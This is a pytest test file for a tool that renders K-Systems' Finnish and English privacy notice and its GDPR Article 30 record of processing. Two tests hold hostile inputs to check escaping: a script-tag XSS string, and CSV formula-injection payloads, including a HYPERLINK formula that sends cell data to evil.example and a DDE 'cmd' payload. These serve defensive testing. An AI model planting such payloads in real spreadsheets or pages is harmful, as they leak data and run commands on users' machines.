"""Rendering the notice and the record of processing from the K-Systems policy.

The seed notice's statements (../shared/seed/READING.md, one table row each) are the ground
truth: the Finnish rendering must carry every one of them.
"""

from __future__ import annotations

import csv
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from seloste.checks.cli import main
from seloste.policy.loader import load_policy
from seloste.policy.model import Policy
from seloste.policy.render import render_notice
from seloste.policy.ropa import ART_30_1, ART_30_2, ROPA_COLUMNS, render_ropa
from seloste.policy.terms import TERMS
from seloste.policy.wording import md_escape, period_words
from shared import shared, without_source

ROOT = Path(__file__).resolve().parent.parent
K_POLICY = ROOT / "fixtures" / "k-systems" / "policy.yaml"
READING = shared("seed", "READING.md")

CUSTOMER_FIELDS = [
    "Yrityksen/organisaation nimi",
    "Y-tunnus tai rekisterinumero",
    "Yhteyshenkilön nimi",
    "Osoite",
    "Sähköposti",
    "Puhelinnumero",
    "Laskutustiedot",
]
HOSTING_FIELDS = [
    "Yrityksen/organisaation nimi",
    "Verkko-osoite (domain)",
    "Yhteyshenkilön nimi",
    "Osoite",
    "Sähköposti",
    "Puhelinnumero",
]
TRAFICOM_FIELDS = [*HOSTING_FIELDS, "Y-tunnus tai rekisterinumero"]

# What the Finnish notice must say for each row of READING.md, by the row's "notice section".
# A key ``(heading, must, must_not)`` looks only inside that section of the rendering.
Block = tuple[str, list[str], list[str]]
EXPECTED: dict[str, list[str | Block]] = {
    "Rekisterinpitäjä": [("## Rekisterinpitäjä", ["K-Systems Contacts Oy", "Muurjoentie 22",
                                                   "18100 Heinola"], [])],
    "Tietosuojavastaava": [("## Tietosuojavastaava", ["Päivi Kaikkonen",
                                                       "hostmaster@k-systems.fi"], []),
                           ("## Yhteystiedot rekisteriin", ["hostmaster@k-systems.fi"], [])],
    "Asiakasrekisteri": [("## Asiakasrekisteri", [
        "asiakasyritysten ja organisaatioiden ylläpitäjien ja käyttäjien henkilötiedot",
        "Asiakasyritysten ja -organisaatioiden ylläpitäjät ja käyttäjät",
    ], [])],
    "Rekisterin pitämisen peruste": [("### Rekisterin pitämisen peruste", [
        "Sopimus", "6 artiklan 1 kohdan b alakohta", "asiakassuhteeseen perustuen",
        "lakisääteinen oikeus ylläpitää verkkopalveluja ylläpitävien"], [])],
    "Käyttötarkoitus": [("### Henkilötietojen käsittelyn ja rekisterin käyttötarkoitus", [
        "Henkilötietoja käsitellään vain etukäteen sovittuihin käyttötarkoituksiin",
        "Yritysten ja organisaatioiden verkkopalvelujen ylläpitoon liittyvä asiointi kolmannen "
        "osapuolen kanssa",
        "Traficom (aiemmin Viestintävirasto) sekä verkkopalveluteknologiaa tarjoavat yritykset",
        "Vuorovaikutus yhteyshenkilöiden kanssa ja asiakassuhteiden hoito",
        "Markkinointi- ja viestintäpalvelujen hoitaminen",
    ], [])],
    "Asiakasrekisteriin tallennettavat henkilötiedot": [
        ("### Rekisteriin tallennettavat henkilötiedot", CUSTOMER_FIELDS, [])
    ],
    "Yhteystiedot ... Viestintävirasto": [
        ("#### Liikenne- ja viestintävirasto Traficom (aiemmin Viestintävirasto)",
         [*TRAFICOM_FIELDS, "Vastaanottaja on viranomainen."], ["Laskutustiedot"])
    ],
    "Yhteystiedot ... verkkopalvelimet ja webhotellit": [
        ("#### Verkkopalvelimet ja webhotellit", HOSTING_FIELDS,
         ["Y-tunnus", "Laskutustiedot"])
    ],
    "Markkinointikielto": [("### Rekisteröidyn oikeudet", [
        "Markkinointikielto", "oikeus kieltää tietojen käyttäminen markkinointiin",
        "myynti@k-systems.fi"], [])],
    "Tarkastus, korjaus, poisto": [("### Rekisteröidyn oikeudet", [
        "Tarkastusoikeus", "korjaamiseen", "poistamiseen"], [])],
    "Rajoittaminen": [("### Rekisteröidyn oikeudet", [
        "käsittelyn rajoittamiseen", "kiistanalaisten tietojen"], [])],
    "Valitusoikeus": [("## Valitusoikeus", [
        "tietosuojavaltuutetulle", "Tietosuojavaltuutetun toimisto",
        "https://tietosuoja.fi/yhteystiedot"], [])],
    "Tietolähteet": [("### Rekisterin tietolähteet", [
        "suullisesti, sähköpostilla, kirjallisesti",
        "julkisista ja yksityisistä rekistereistä"], [])],
    "Tietojen luovuttaminen": [("## Tietojen luovuttaminen", [
        "Tietoja ei luovuteta K-Systems Contacts Oy:n ja sen kolmannen osapuolen"], [])],
    "Rekisterin suojaus": [("### Rekisterin suojaus", [
        "palomuur", "salasan", "tietoturvan tekniset keinot"], [])],
    "Säilyttäminen": [("### Tietojen säilyttäminen", [
        "Palvelusuhteen päätyttyä kaikki yhteystiedot ja niihin kytketyt asiakkaan sisällöt",
        "Tiedot säilytetään 3 kuukautta asiakas- tai palvelusuhteen päättymisestä, minkä "
        "jälkeen ne poistetaan.",
        "kytkettyjä sisältöjä", "7 vuotta", "Kirjanpitolaki (1336/1997)"], [])],
    # The hosting partners are third parties (§ Tietojen luovuttaminen), not processors here.
    "Henkilötietojen käsittelijät": [("### Henkilötietojen käsittelijät", [
        "toimitusjohtaja", "toimitusjohtajan valvonnassa ja ohjauksessa", "on koulutettu"],
        ["Verkkopalvelimet ja webhotellit"])],
    "Siirto EU:n ulkopuolelle": [("## Tietojen siirto EU:n tai ETA:n ulkopuolelle", [
        "EU:n tai Euroopan talousalueen ulkopuolelle",
        "ainoastaan seuraavilla alueilla: EU/ETA."], [])],
    "fi-verkkotunnusvälittäjä": [
        ("## fi-verkkotunnusrekisteri", [
            "K-Systems Contacts Oy toimii henkilötietojen käsittelijänä ja rekisterinpitäjänä "
            "toimii Liikenne- ja viestintävirasto Traficom.",
            "Rekisterinpitäjä vastaa rekisteriin kohdistuviin tietopyyntöihin",
            "fi-verkkotunnusten käyttäjät"], []),
        ("## Virallinen fi-verkkotunnusvälittäjä", [
            "virallinen fi-verkkotunnusvälittäjä",
            # The regulator's statutory duties and its standing towards registrars.
            "lakisääteisenä tehtävänä on ylläpitää fi-verkkotunnusrekisteriä, hallinnoida "
            "fi-maatunnusta, ylläpitää ja kehittää fi-verkkotunnustoimintaa sekä valvoa "
            "fi-verkkotunnusvälittäjiä",
            "on viranomainen, eikä se solmi välittäjien kanssa sopimuksia",
            "vastaa rekisterinpitäjänä fi-verkkotunnusrekisteriin kohdistuviin tietopyyntöihin",
            "valitystoiminnantietosuoja.html"], []),
    ],
}  # fmt: skip


def reading_sections() -> list[str] | None:
    """The "notice section" cell of every row of READING.md's table; None if it is absent."""
    if not READING.is_file():
        return None
    sections = []
    for line in READING.read_text(encoding="utf-8").splitlines():
        cells = [c.strip() for c in line.strip().strip("|").split("|")]
        if not line.startswith("|") or set(cells[0]) <= {"-", ":"}:
            continue
        if cells[0] != "notice section":  # the header row
            sections.append(cells[0])
    return sections


def _section_params() -> list[object]:
    sections = reading_sections()
    if sections is None:
        return [pytest.param(None, id="READING.md-absent")]
    return sections


def section(text: str, heading: str) -> str:
    """From ``heading`` (a line that starts with it) to the next heading as high or higher."""
    level = len(heading) - len(heading.lstrip("#"))
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(heading))
    end = next(
        (
            i
            for i in range(start + 1, len(lines))
            if lines[i].startswith("#") and len(lines[i]) - len(lines[i].lstrip("#")) <= level
        ),
        len(lines),
    )
    return "\n".join(lines[start:end])


@pytest.fixture(scope="module")
def k_policy() -> Policy:
    return load_policy(K_POLICY).model


@pytest.fixture(scope="module")
def finnish(k_policy: Policy) -> str:
    return render_notice(k_policy, "fi", "md")[0]


@pytest.mark.parametrize("name", _section_params())
def test_finnish_notice_carries_every_statement_of_the_seed(name: str | None, finnish: str) -> None:
    if name is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{READING} is missing; CI must check the notice against it")
        pytest.skip(f"{READING} is absent (the shared seed is not checked out)")
    assert EXPECTED.get(name), f"READING.md row {name!r} has no expectations in EXPECTED"
    missing = []
    for expectation in EXPECTED[name]:
        heading, must, must_not = (
            expectation if isinstance(expectation, tuple) else ("#", [expectation], [])
        )
        body = section(finnish, heading).casefold() if heading != "#" else finnish.casefold()
        missing += [f"{heading}: lacks {s!r}" for s in must if s.casefold() not in body]
        missing += [f"{heading}: has {s!r}" for s in must_not if s.casefold() in body]
    assert not missing, "\n".join(missing)


def test_every_expectation_is_a_row_of_reading() -> None:
    sections = reading_sections()
    if sections is None:
        if os.environ.get("CI") == "true":
            pytest.fail(f"{READING} is missing; CI must check the notice against it")
        pytest.skip(f"{READING} is absent")
    assert sorted(EXPECTED) == sorted(sections)


@pytest.mark.parametrize("lang", ["fi", "en"])
@pytest.mark.parametrize("fmt", ["md", "html"])
def test_every_heading_is_rendered(k_policy: Policy, lang: str, fmt: str) -> None:
    text = render_notice(k_policy, lang, fmt)[0]  # type: ignore[arg-type]
    # K-Systems names no processor (its hosting partners are third parties): that heading is
    # rendered in tests/test_parties_transfers.py.
    headings = [
        w[lang]
        for k, w in TERMS.items()
        if k.startswith(("heading.", "section.")) and k != "heading.processors"
    ]
    for heading in headings:
        if fmt == "md":
            pattern = rf"^#{{2,3}} {re.escape(md_escape(heading))}$"
        else:
            pattern = rf"<h[23]>{re.escape(heading)}</h[23]>"
        assert re.search(pattern, text, re.MULTILINE), heading


@pytest.mark.parametrize("lang", ["fi", "en"])
@pytest.mark.parametrize("fmt", ["md", "html"])
def test_controller_has_one_name(k_policy: Policy, lang: str, fmt: str) -> None:
    text = render_notice(k_policy, lang, fmt)[0]  # type: ignore[arg-type]
    assert "Contacs" not in text
    assert "K-Systems Contacts Oy" in text


def test_english_notice_names_everything_in_english(k_policy: Policy) -> None:
    text, fallbacks = render_notice(k_policy, "en", "md")
    assert fallbacks == 0
    for expected in (
        "Marketing opt-out",
        "Finnish Transport and Communications Agency Traficom",
        "The data is kept for 3 months after the customer or service relationship ends; "
        "then deleted.",
        "Firewalls",
        "Contract (GDPR Art. 6(1)(b))",
    ):
        assert expected in text
    assert "Laskutustiedot" not in text


def test_missing_translation_falls_back_to_the_other_language(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    original = K_POLICY.read_text(encoding="utf-8")
    text = original.replace("- {fi: Palomuurit, en: Firewalls}", "- {fi: Palomuurit}", 1)
    assert text != original
    path = tmp_path / "policy.yaml"
    path.write_text(text, encoding="utf-8")
    out, fallbacks = render_notice(load_policy(path).model, "en", "md")
    assert fallbacks == 1
    assert "- Palomuurit" in out
    assert main(["render", "notice", str(path), "--lang", "en"]) == 0
    assert "1 text(s) have no en version" in capsys.readouterr().err


def test_rendering_is_deterministic(tmp_path: Path) -> None:
    """Byte-identical across runs, in separate processes with different hash seeds."""
    outputs = []
    for seed in ("1", "2"):
        files = []
        for args in (
            ["notice", "--lang", "fi", "--format", "md"],
            ["notice", "--lang", "en", "--format", "html"],
            ["ropa", "--format", "csv"],
            ["ropa", "--format", "md", "--lang", "en"],
        ):
            out = tmp_path / f"{seed}-{'-'.join(args)}"
            subprocess.run(
                [
                    sys.executable,
                    "-m",
                    "seloste.checks.cli",
                    "render",
                    args[0],
                    str(K_POLICY),
                    *args[1:],
                    "-o",
                    str(out),
                ],
                check=True,
                cwd=ROOT,
                env={**os.environ, "PYTHONHASHSEED": seed},
            )
            files.append(out.read_bytes())
        outputs.append(files)
    assert outputs[0] == outputs[1]
    assert all(out.endswith(b"\n") and not out.endswith(b"\n\n") for out in outputs[0])


def _hostile_policy(tmp_path: Path) -> Path:
    text = K_POLICY.read_text(encoding="utf-8")
    text = text.replace("  name: K-Systems Contacts Oy\n", '  name: "<script>alert(1)</script>"\n')
    text = text.replace("{fi: Osoite, en: Address}", "{fi: '<b>Osoite</b> & *muu*', en: x}")
    path = tmp_path / "policy.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def test_html_escapes_policy_text(tmp_path: Path) -> None:
    policy = load_policy(_hostile_policy(tmp_path)).model
    html = render_notice(policy, "fi", "html")[0]
    assert "<script>" not in html and "<b>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "&lt;b&gt;Osoite&lt;/b&gt; &amp; *muu*" in html


def test_markdown_escapes_policy_text(tmp_path: Path) -> None:
    policy = load_policy(_hostile_policy(tmp_path)).model
    md = render_notice(policy, "fi", "md")[0]
    assert "<script>" not in md
    assert r"\<script\>alert(1)\</script\>" in md
    assert r"\<b\>Osoite\</b\> & \*muu\*" in md
    assert "<script>" not in render_ropa(policy, "fi", "md")


def test_user_templates_override_the_shipped_ones(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "notice.md.j2").write_text(
        "{{ t['heading.controller'] }}: {{ notice.controller.name }}\n", encoding="utf-8"
    )
    assert main(["render", "notice", str(K_POLICY), "--templates", str(tmp_path)]) == 0
    assert capsys.readouterr().out == "Rekisterinpitäjä: K-Systems Contacts Oy\n"
    # A format the user did not override still comes from the package.
    assert (
        main(["render", "notice", str(K_POLICY), "--templates", str(tmp_path), "--format", "html"])
        == 0
    )
    assert "<h2>Rekisterinpitäjä</h2>" in capsys.readouterr().out


def test_broken_user_template_is_an_input_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "notice.md.j2").write_text("line one\n{% if %}\n", encoding="utf-8")
    assert main(["render", "notice", str(K_POLICY), "--templates", str(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"{tmp_path / 'notice.md.j2'}:2:1: "), err
    (tmp_path / "notice.md.j2").write_text("{{ notice.no_such_thing }}\n", encoding="utf-8")
    assert main(["render", "notice", str(K_POLICY), "--templates", str(tmp_path)]) == 2
    assert "no_such_thing" in capsys.readouterr().err


def test_render_notice_command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["render", "notice", str(K_POLICY), "--lang", "fi"]) == 0
    out = capsys.readouterr()
    assert out.out.startswith("# K-Systems Contacts Oy:n asiakasrekisterin tietosuojaseloste\n")
    assert out.err == ""
    target = tmp_path / "notice.html"
    assert main(["render", "notice", str(K_POLICY), "--format", "html", "-o", str(target)]) == 0
    assert capsys.readouterr().out == ""
    assert target.read_text(encoding="utf-8").startswith('<!DOCTYPE html>\n<html lang="fi">')


def test_missing_or_broken_policy_is_exit_2(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "nope.yaml"
    assert main(["render", "notice", str(missing)]) == 2
    assert capsys.readouterr().err == f"{missing}: no such file\n"
    broken = tmp_path / "broken.yaml"
    broken.write_text(
        K_POLICY.read_text(encoding="utf-8").replace("  contact: hostmaster", "  contakt: x", 1),
        encoding="utf-8",
    )
    assert main(["render", "ropa", str(broken)]) == 2
    err = without_source(capsys.readouterr().err).splitlines()
    assert err and all(line.startswith(f"{broken}:") for line in err)
    assert any("unknown key 'contakt'" in line for line in err)
    with pytest.raises(SystemExit) as usage:  # argparse exits on a usage error
        main(["render", "notice", str(K_POLICY), "--lang", "de"])
    assert usage.value.code == 2


# -- the record of processing activities --------------------------------------------------


def _ropa_rows(k_policy: Policy, lang: str) -> list[dict[str, str]]:
    text = render_ropa(k_policy, lang, "csv")  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text)))
    header = [TERMS[f"ropa.{c}"][lang] for c in ROPA_COLUMNS]  # type: ignore[index]
    assert rows[0] == header
    return [dict(zip(ROPA_COLUMNS, row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize("lang", ["fi", "en"])
def test_ropa_fills_every_article_30_column(k_policy: Policy, lang: str) -> None:
    na = TERMS["text.not_applicable"][lang]  # type: ignore[index]
    not_declared = TERMS["text.not_declared"][lang]  # type: ignore[index]
    rows = _ropa_rows(k_policy, lang)
    assert [row["article"] for row in rows] == ["30(1)", "30(2)"]
    for row in rows:
        asked = ART_30_1 if row["article"] == "30(1)" else ART_30_2
        assert all(value.strip() for value in row.values()), row
        for column in ROPA_COLUMNS:
            if column in asked:
                assert row[column] not in (na, not_declared), (row["register"], column)
            elif column != "article":
                assert row[column] == na, (row["register"], column)


def test_ropa_says_what_the_policy_says(k_policy: Policy) -> None:
    controller, processor = _ropa_rows(k_policy, "fi")
    assert controller["register"] == "Asiakasrekisteri"
    assert controller["controller"].startswith("K-Systems Contacts Oy, Muurjoentie 22")
    assert controller["dpo"] == "Päivi Kaikkonen, hostmaster@k-systems.fi"
    assert controller["transfers"] == "ei siirtoja EU:n tai ETA:n ulkopuolelle"
    assert controller["recipients"] == (
        "Muut rekisterinpitäjät: Liikenne- ja viestintävirasto Traficom (viranomainen), "
        "Verkkopalvelimet ja webhotellit"
    )
    assert "7 vuotta" in controller["retention"] and "3 kuukautta" in controller["retention"]
    assert processor["register"] == "fi-verkkotunnusrekisteri"
    assert processor["controller"] == "Liikenne- ja viestintävirasto Traficom (rekisterinpitäjä)"
    assert processor["processor"].startswith("K-Systems Contacts Oy")
    assert processor["processing"] == "fi-verkkotunnusten välittäminen Traficomin lukuun"


def test_ropa_names_a_transfer_outside_the_eea(tmp_path: Path) -> None:
    text = K_POLICY.read_text(encoding="utf-8").replace(
        "    locations: [EEA]\n", "    locations: [EEA, US]\n"
    )
    path = tmp_path / "policy.yaml"
    path.write_text(text, encoding="utf-8")
    rows = _ropa_rows(load_policy(path).model, "en")
    assert rows[0]["transfers"] == "Web servers and web hosting partners: United States"
    assert rows[1]["transfers"] == "no transfers outside the EU or the EEA"


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"K-Systems")',
        "+358 40 123 4567",
        "-1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_ropa_csv_cells_never_start_a_formula(tmp_path: Path, name: str) -> None:
    """A text that a spreadsheet would run as a formula starts with a quote (OWASP), and the
    CSV stays one row a register, each cell as written after the quote."""
    path = tmp_path / "policy.yaml"
    text = K_POLICY.read_text(encoding="utf-8")
    quoted = (
        name.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r")
    )
    path.write_text(text.replace("  name: K-Systems Contacts Oy\n", f'  name: "{quoted}"\n', 1))
    rows = _ropa_rows(load_policy(path).model, "en")
    assert rows[0]["controller"].startswith(f"'{name},")
    starts = {cell[:1] for row in rows for cell in row.values()}
    assert starts.isdisjoint({"=", "+", "-", "@", "\t", "\r"})


def test_ropa_markdown_has_a_table_per_paragraph(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["render", "ropa", str(K_POLICY), "--format", "md", "--lang", "en"]) == 0
    out = capsys.readouterr().out
    assert "## As controller (Art. 30(1))" in out and "## As processor (Art. 30(2))" in out
    tables = [line for line in out.splitlines() if line.startswith("| ")]
    assert len(tables) == 4  # a header and one register each
    assert all(" |  |" not in line for line in tables)


def test_jinja2_is_imported_only_when_rendering() -> None:
    """The pre-commit path imports the CLI and the policy package; it must stay light."""
    code = (
        "import sys, seloste.checks.cli, seloste.policy.render, seloste.policy.diff, "
        "seloste.policy.notice, seloste.policy.ropa; "
        "seloste.checks.cli.build_parser(); assert 'jinja2' not in sys.modules"
    )
    subprocess.run([sys.executable, "-c", code], check=True, cwd=ROOT)


@pytest.mark.parametrize(
    ("duration", "fi", "en"),
    [
        ("P1M", "1 kuukausi", "1 month"),
        ("P7Y", "7 vuotta", "7 years"),
        ("P1Y6M", "1 vuosi 6 kuukautta", "1 year 6 months"),
        ("PT36H", "36 tuntia", "36 hours"),
        ("P0.5Y", "P0.5Y", "P0.5Y"),
    ],
)
def test_periods_in_words(duration: str, fi: str, en: str) -> None:
    assert (period_words(duration, "fi"), period_words(duration, "en")) == (fi, en)


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_a_register_with_only_trained_staff_has_no_empty_list(fmt: str) -> None:
    """Who processes the data: the training sentence alone, with no empty list before it."""
    policy = load_policy(ROOT / "docs" / "examples" / "policy.yaml").model
    register = policy.registers["member_register"]
    policy.registers["member_register"] = register.model_copy(
        update={"staff_trained": True, "handled_by": []}
    )
    policy.purposes["membership"] = policy.purposes["membership"].model_copy(
        update={"recipients": []}
    )
    text = render_notice(policy, "en", fmt)[0]
    assert "<ul>\n</ul>" not in text and "<ul></ul>" not in text
    section = text.split("Who processes the personal data", 1)[1].split("\n## ", 1)[0]
    assert "Everyone who processes the data is trained" in section
    assert "- " not in section.split("Everyone")[0] and "<li>" not in section.split("Everyone")[0]
